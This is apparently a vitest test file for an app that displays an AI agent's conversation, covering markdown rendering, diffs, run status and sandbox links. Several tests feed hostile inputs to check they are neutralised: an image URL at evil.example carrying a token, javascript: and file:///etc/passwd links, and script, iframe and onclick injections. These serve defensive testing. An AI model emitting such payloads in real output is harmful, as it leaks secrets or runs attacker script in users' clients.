import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { runRules } from '../../../renderer/pages/conversation/composer/run-rules.ts'
import { AllowedKinds } from '../../../renderer/pages/conversation/panel/details/AllowedKinds.tsx'
import { parseLimit } from '../../../renderer/pages/conversation/parse-limit.ts'
import { problemWords } from '../../../renderer/pages/conversation/problem-words.ts'
import { diffCounts, diffHunks } from '../../../renderer/pages/conversation/timeline/action/diff-lines.ts'
import { labelOf } from '../../../renderer/pages/conversation/timeline/action/labels.ts'
import { outcomeWords } from '../../../renderer/pages/conversation/timeline/action/outcome-words.ts'
import { staysFollowing } from '../../../renderer/pages/conversation/timeline/following.ts'
import { followSent, lastOwnMessage, nextError } from '../../../renderer/pages/conversation/timeline/jumps.ts'
import { FallbackLine } from '../../../renderer/pages/conversation/timeline/line/FallbackLine.tsx'
import { InlineImages } from '../../../renderer/pages/conversation/timeline/message/InlineImages.tsx'
import { Markdown } from '../../../renderer/pages/conversation/timeline/message/Markdown.tsx'
import { itemsOf } from '../../../renderer/state/conversation/items.ts'
import { linkTarget } from '../../../renderer/state/conversation/sandbox-link.ts'
import { refusalOf } from '../../../renderer/state/launch/attached-files.ts'
import { type ERROR_KINDS, EXECUTION_STATUSES } from '../../../server/api/event/events.ts'
import type { Observation } from '../../../server/api/event/observations.ts'
import { EventLog, edited, terminal, terminalOutput, view } from './events.ts'

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />)

test('a picture at an address is never loaded', () => {
  const text = '![secret](https://evil.example/?q=token) <img src="https://evil.example/b.png">'
  expect(html(text)).not.toContain('<img')
  expect(renderToStaticMarkup(<InlineImages images={['https://evil.example/a.png']} />)).not.toContain('<img')
})

test('a link that is not http is only text', () => {
  expect(html('[click](javascript:alert(1)) [file](file:///etc/passwd)')).not.toContain('<a')
  expect(html('[docs](https://example.org/)')).toContain('href="https://example.org/"')
})

test('HTML in an answer is not rendered', () => {
  expect(html('<script>alert(1)</script><iframe src="x"></iframe><b onclick="x()">b</b>')).not.toMatch(
    /<script|<iframe|onclick/,
  )
})

test('an action is said in a few words', () => {
  const eventLog = new EventLog()
  eventLog.run('npm test', 'one\ntwo\n', 0)
  eventLog.answer(
    eventLog.call({ kind: 'FileEditorAction', command: 'str_replace', path: '/a.ts' }),
    edited('/a.ts', { old_content: 'a\nb\n', new_content: 'a\nc\nd\n' }),
  )
  const [run, edit] = itemsOf(eventLog.events).filter(item => item.kind === 'action')
  if (!run || !edit) throw new Error('Both actions are items.')
  expect(outcomeWords(run.outcome)).toEqual(['exit 0', '1.0 s', '2 lines'])
  expect(outcomeWords(edit.outcome)).toEqual(['+2 −1'])
  expect(labelOf(run.event)).toMatchObject({ verb: null, subject: 'npm test' })
  expect(labelOf(edit.event)).toMatchObject({ verb: 'Edit', subject: '/a.ts' })
})

test('of an output whose middle was left out, only the lines that are shown are counted', () => {
  const eventLog = new EventLog()
  const note = '<response clipped><NOTE>The output is too long to be shown whole.</NOTE>'
  eventLog.run('seq 20000', `1\n2\n${note}\n19999\n20000\n`, 0)
  const [item] = itemsOf(eventLog.events)
  if (item?.kind !== 'action') throw new Error('The command is an item.')
  expect(outcomeWords(item.outcome)).toEqual(['exit 0', '1.0 s', '4 lines shown'])
})

test('a command that goes on and one without output say so', () => {
  const eventLog = new EventLog()
  eventLog.answer(eventLog.call(terminal('sleep 99')), terminalOutput('sleep 99', '', -1))
  const [item] = itemsOf(eventLog.events)
  if (item?.kind !== 'action') throw new Error('The command is an item.')
  expect(outcomeWords(item.outcome)).toEqual(['still running', '1.0 s', 'no output'])
})

test('a command whose shell broke is not said to go on', () => {
  const eventLog = new EventLog()
  eventLog.answer(eventLog.call(terminal('sleep 99')), {
    ...terminalOutput('sleep 99', '', -1),
    timeout: false,
  } as Observation)
  const [item] = itemsOf(eventLog.events)
  if (item?.kind !== 'action') throw new Error('The command is an item.')
  expect(outcomeWords(item.outcome)).toEqual(['cut off', '1.0 s', 'no output'])
})

test('a diff numbers the lines of both texts', () => {
  const [hunk] = diffHunks('a\nb\nc\n', 'a\nx\nc\n')
  expect(hunk?.lines).toEqual([
    { kind: 'same', before: 1, after: 1, text: 'a' },
    { kind: 'removed', before: 2, after: null, text: 'b' },
    { kind: 'added', before: null, after: 2, text: 'x' },
    { kind: 'same', before: 3, after: 3, text: 'c' },
  ])
  expect(diffHunks('same\n', 'same\n')).toEqual([])
  expect(diffCounts('', 'one\ntwo\n')).toEqual({ added: 2, removed: 0 })
})

test('the next error is found after the last one and begins again at the first', () => {
  const eventLog = new EventLog()
  eventLog.user('Go on.')
  eventLog.run('false', '', 1)
  eventLog.run('true', '', 0)
  eventLog.fail(eventLog.call(view('/missing')), 'No such file.')
  const items = itemsOf(eventLog.events)
  expect([nextError(items, -1), nextError(items, 1), nextError(items, 3)]).toEqual([1, 3, 1])
  expect(lastOwnMessage(items)).toBe(0)
})

test('a message that was sent is shown at once and when it comes, one of another client is not', () => {
  const quiet = { sent: 0, newest: 'message-1', awaited: false }
  expect(followSent(quiet, { sent: 0, newest: 'message-2' })).toEqual({ awaited: false, show: false })
  expect(followSent(quiet, { sent: 1, newest: 'message-1' })).toEqual({ awaited: true, show: true })
  const awaited = { sent: 1, newest: 'message-1', awaited: true }
  expect(followSent(awaited, { sent: 1, newest: 'message-1' })).toEqual({ awaited: true, show: false })
  expect(followSent(awaited, { sent: 1, newest: 'message-2' })).toEqual({ awaited: false, show: true })
})

test('every status says what can be done, and why not', () => {
  const running = { limit_reached: null, sandbox_status: 'RUNNING' } as const
  const rules = Object.fromEntries(EXECUTION_STATUSES.map(status => [status, runRules(status, running)]))
  expect(rules.running).toMatchObject({ working: true, sendReason: null })
  expect(rules.paused).toMatchObject({ working: false, continueReason: null })
  expect(rules.finished?.continueReason).toContain('Send a message')
  expect(rules.deleting?.sendReason).not.toBeNull()
  expect(runRules('paused', { ...running, limit_reached: 'max_iterations' }).continueReason).toContain('step limit')
  expect(runRules('paused', { ...running, sandbox_status: 'MISSING' }).sendReason).toContain('missing')
})

test('a stopped run names the remedy of its cause', () => {
  const remedyOf = (code: string, kind: (typeof ERROR_KINDS)[number], user_action: 'none' | 'retry' | 'settings') =>
    problemWords({ ...base, code, classification: { kind, retryable: true, user_action } }).remedy
  const base = {
    kind: 'ConversationErrorEvent' as const,
    id: 'e',
    seq: 0,
    timestamp: '2026-01-05T10:00:00Z',
    source: 'environment' as const,
    detail: 'It stopped.',
  }
  expect(remedyOf('MaxIterationsReached', 'limit', 'none')).toBe('raise_iterations')
  expect(remedyOf('MaxBudgetReached', 'limit', 'none')).toBe('raise_budget')
  expect(remedyOf('llm_authentication', 'auth', 'settings')).toBe('settings')
  expect(remedyOf('llm_unreachable', 'transient', 'none')).toBe('retry')
})

test('limits take what the service takes', () => {
  expect(parseLimit('max_iterations', '20')).toBe(20)
  expect(parseLimit('max_budget_per_task', '2,5')).toBe(2.5)
  for (const text of ['', '0', '-1', '1.5', 'many', 'Infinity']) expect(parseLimit('max_iterations', text)).toBeNull()
})

test('only pictures that models read and that are small enough are attached', () => {
  expect(refusalOf({ type: 'image/png', size: 1000 }, 0)).toBeNull()
  expect(refusalOf({ type: 'image/svg+xml', size: 1000 }, 0)).toContain('PNG')
  expect(refusalOf({ type: 'image/png', size: 6_000_000 }, 0)).toContain('6.0 MB')
  expect(refusalOf({ type: 'image/png', size: 1000 }, 8)).toContain('8 pictures')
})

test('another model that answers is told once for what was asked, with the reason folded away', () => {
  const eventLog = new EventLog()
  const down = (to: string) => eventLog.state('llm_fallback', { from: 'openai/a', to, reason: 'It is down.' })
  eventLog.user('Go')
  down('anthropic/b')
  eventLog.run('ls', '')
  down('anthropic/b')
  down('anthropic/c')
  eventLog.state('llm_fallback', { from: 1 })
  eventLog.user('Again')
  down('anthropic/c')
  const told = itemsOf(eventLog.events).filter(item => item.kind === 'fallback')
  expect(told.map(({ fallback }) => fallback.to)).toEqual(['anthropic/b', 'anthropic/c', 'anthropic/c'])
  const [first] = told
  if (!first) throw new Error('The first is told.')
  const shown = renderToStaticMarkup(<FallbackLine item={first} />)
  expect(shown).toContain('anthropic/b</span> answers in place of openai/a, which is down.')
  expect(shown).not.toContain('It is down.')
})

test('what is always allowed stands in words with a way back, and nothing where there is none', () => {
  const kinds = [{ id: 'a1', text: 'Commands that start with `npm test`' }]
  const shown = renderToStaticMarkup(<AllowedKinds kinds={kinds} taking={null} onTake={() => {}} />)
  expect(shown).toContain('Commands that start with `npm test`</span>')
  expect(shown).toContain('aria-label="Ask again: Commands that start with `npm test`"')
  expect(renderToStaticMarkup(<AllowedKinds kinds={[]} taking={null} onTake={() => {}} />)).toBe('')
})

test('the end is followed however much comes at once, until the person scrolls up', () => {
  const grown = { top: 500, below: 900, byPerson: false }
  expect(staysFollowing(true, 500, grown)).toBe(true)
  expect(staysFollowing(true, 520, grown)).toBe(true)
  expect(staysFollowing(true, 500, { top: 470, below: 30, byPerson: true })).toBe(false)
  expect(staysFollowing(false, 470, { top: 480, below: 900, byPerson: true })).toBe(false)
  expect(staysFollowing(false, 480, { top: 1380, below: 10, byPerson: true })).toBe(true)
  // The list has become shorter under it.
  expect(staysFollowing(true, 1400, { top: 1380, below: 0, byPerson: true })).toBe(true)
})

test("localhost in the agent's text is the sandbox, at the same port", () => {
  const sandbox = (path: string, port = 8011) => ({ kind: 'sandbox', port, path })
  expect(linkTarget('http://localhost:8011/a?b=1#c', true)).toEqual(sandbox('/a?b=1#c'))
  for (const host of ['127.0.0.1', '0.0.0.0', '[::1]', 'app.localhost', 'LOCALHOST', '127.1'])
    expect(linkTarget(`http://${host}:8011/`, true)).toEqual(sandbox('/'))
  expect(linkTarget('http://localhost', true)).toEqual(sandbox('/', 80))
  expect(linkTarget('http://localhost:8012', false)).toEqual({ kind: 'closed', port: 8012 })
  expect(linkTarget('https://localhost:8443/', true)).toEqual({ kind: 'closed', port: 8443 })
  expect(linkTarget('https://localhost.example.org/', true)?.kind).toBe('web')
  expect(linkTarget('javascript:alert(1)', true)).toBeNull()
  expect(html('See http://localhost:3000/')).not.toContain('<a')
  expect(html('See http://localhost:3000/')).toContain('only in the sandbox')
})
